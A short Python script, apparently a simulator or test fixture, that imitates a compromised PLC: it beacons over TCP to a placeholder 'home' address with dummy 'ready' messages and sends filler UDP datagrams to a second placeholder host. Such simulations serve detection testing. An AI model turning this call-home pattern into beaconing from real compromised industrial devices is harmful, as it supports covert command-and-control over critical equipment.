# SPDX-License-Identifier: Apache-2.0
"""Runs on a compromised PLC: calls home by TCP, and sends datagrams to a second address."""
import socket
import time

with socket.create_connection(("203.0.113.50", 443), timeout=3) as home:
    for _ in range(5):
        home.sendall(b"plc-1 ready " + bytes(range(64)))
        home.recv(64)
        time.sleep(1)
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
    for _ in range(3):
        client.sendto(bytes(200), ("203.0.113.53", 4000))
        time.sleep(0.5)
